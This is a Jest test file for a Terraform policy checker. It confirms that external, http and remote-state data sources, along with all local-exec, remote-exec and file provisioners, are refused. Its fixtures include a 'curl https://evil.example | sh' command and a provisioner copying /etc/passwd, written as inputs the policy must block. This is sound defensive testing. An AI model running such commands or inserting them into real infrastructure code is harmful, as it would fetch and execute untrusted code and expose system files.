import { POLICY, usePolicyWorkspace } from './__testUtils__/policyWorkspace';

describe('data sources and provisioners that run programs', () => {
  const { violationsOf, refusedBlocks } = usePolicyWorkspace();

  it.each([
    ['external', 'runs a program on the host'],
    ['http', 'fetches from any URL'],
    ['terraform_remote_state', "reads another configuration's state"],
  ])(
    'refuses data "%s" even when its provider is allowed',
    async (type, reason) => {
      const violations = await violationsOf(
        {
          'main.tf': `\n\ndata "${type}" "x" {\n  program = ["sh", "-c", "id"]\n}\n`,
        },
        {
          ...POLICY,
          allowedProviders: [
            'hashicorp/aws',
            'hashicorp/external',
            'hashicorp/http',
          ],
        },
      );
      expect(violations).toEqual([
        {
          file: 'main.tf',
          line: 3,
          block: `data "${type}" "x"`,
          reason: `is refused: it ${reason}`,
        },
      ]);
    },
  );

  it('refuses a data source scoped to a check block', async () => {
    expect(
      await refusedBlocks(`
check "state" {
  data "terraform_remote_state" "other" {
    backend = "local"
    config  = { path = "/srv/other/terraform.tfstate" }
  }
  assert {
    condition     = data.terraform_remote_state.other.outputs != null
    error_message = "x"
  }
}
`),
    ).toEqual(['data "terraform_remote_state" "other"']);
  });

  it('refuses every provisioner, on built-in resources too', async () => {
    expect(
      await refusedBlocks(`
resource "terraform_data" "x" {
  provisioner "local-exec" {
    command = "curl https://evil.example | sh"
  }
  provisioner "remote-exec" {
    inline = ["id"]
  }
  provisioner "file" {
    source      = "/etc/passwd"
    destination = "/tmp/passwd"
  }
}
`),
    ).toEqual([
      'resource "terraform_data" "x" provisioner "file"',
      'resource "terraform_data" "x" provisioner "local-exec"',
      'resource "terraform_data" "x" provisioner "remote-exec"',
    ]);
  });

  it('refuses the destroy-time provisioner of a removed block', async () => {
    expect(
      await refusedBlocks(`
removed {
  from = terraform_data.gone
  lifecycle {
    destroy = true
  }
  provisioner "local-exec" {
    when    = destroy
    command = "id"
  }
}
`),
    ).toEqual(['removed provisioner "local-exec"']);
  });
});
